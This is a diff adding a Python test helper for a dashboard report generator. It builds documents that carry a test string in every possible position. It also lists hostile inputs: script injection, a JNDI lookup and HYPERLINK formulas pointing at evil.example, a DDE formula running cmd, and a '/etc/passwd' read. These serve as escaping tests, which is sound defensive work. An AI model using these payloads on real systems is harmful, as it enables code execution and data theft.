@@ -1,0 +1,97 @@
+"""Documents for the tests that read them: the shipped strategies assessed, and one of hostile texts."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import date
+from pathlib import Path
+
+from dashboard import papers
+from dashboard.blocks import (
+    Block,
+    Bullets,
+    Card,
+    Chart,
+    Contents,
+    Document,
+    Field,
+    Heading,
+    Paragraph,
+    Said,
+    Table,
+)
+from dashboard.charts import Curve, Period, Spot
+from dashboard.desk import Desk, open_desk
+from dashboard.report import Material, assessment
+from dashboard.wording import Wording
+
+ROOT = Path(__file__).resolve().parent.parent
+NOW, ANNEX = ROOT / "indicators.yaml", ROOT / "data" / "2016-2019" / "indicators.yaml"
+DAY = date(2023, 12, 31)
+
+HOSTILE = (
+    "<script>alert(1)</script> <img src=http://evil.example/x.png> &amp; &#60;",
+    "**bold** _it_ `code` [link](http://evil.example) ![](http://evil.example/p.png) | pipe ~~s~~",
+    "# no heading",
+    "1. no list",
+    "- no list",
+    "$x^2$ \\alpha {{ 7*7 }} {% raise %} ${jndi:ldap://evil.example}",
+    '#read("/etc/passwd") #import "@preview/x:1.0.0" @source-1 <label> = No heading',
+    '=HYPERLINK("http://evil.example","x") +1+cmd|\' /C calc\'!A0 @SUM(1)',
+    'https://evil.example www.evil.example me@evil.example {HYPERLINK "http://evil.example"}',
+    "</w:t></w:r><w:r><w:t>x ]]> --> <?php ?> </script></style>",
+)
+"""Texts that some format would run, load or turn into something else."""
+
+DAMAGED = "\x00\x1b[31m\x07\x85\ud800\udfff\ufffe\uffff\u202e end"
+SHOWN = "⟨U+0000⟩⟨U+001B⟩[31m⟨U+0007⟩⟨U+0085⟩⟨U+D800⟩⟨U+DFFF⟩⟨U+FFFE⟩⟨U+FFFF⟩⟨U+202E⟩ end"
+CZECH = "Příliš žluťoučký kůň úpěl ďábelské ódy – „uvozovky“"
+
+
+@contextmanager
+def desk_of(path: Path, folder: Path) -> Iterator[Desk]:
+    """A strategy with a new database of its own in a folder."""
+    desk, problems = open_desk(path, f"sqlite:///{folder / 'papers.db'}")
+    assert problems == []
+    assert desk is not None
+    yield desk
+    desk.engine.dispose()
+
+
+def material_of(desk: Desk, day: date | None = None) -> Material:
+    made, problems = papers.material(desk, day or desk.default_day, desk.version())
+    assert problems == []
+    return made
+
+
+def assessed(desk: Desk, language: str = "en") -> Document:
+    return assessment(material_of(desk), Wording(language))
+
+
+def document(*blocks: Block, title: str = "A title", language: str = "en") -> Document:
+    return Document(title, "At the close of a day", language, DAY, {"as_of": "2023-12-31"}, blocks)
+
+
+def every_place(text: str) -> Document:
+    """A document that has a text wherever a text may stand."""
+    spot = Spot(2020, 1, "", remark=False, tells=(text,))
+    absent = Spot(2021, None, text[:60], remark=True, tells=())
+    curve = Curve(text[:60], "persons", (spot, absent), (2021,))
+    return document(
+        Contents(text[:200]),
+        Heading(1, text[:200]),
+        Paragraph(text),
+        Paragraph(Said(text, (1,)), note=True),
+        Bullets((text, Said(text, (1,)))),
+        Table(
+            text[:200],
+            (text[:200], "2020"),
+            ((Said(text, (1,)), text),),
+            widths=(1, 1),
+            targets=(1,),
+        ),
+        Card(text[:200], (Field(text[:200]), Field(text[:200], (text, Said(text, (1,)))))),
+        Chart(text[:200], (curve,), (Period(text[:60], 2020, 2021),), text[:200]),
+        title=text[:200],
+    )
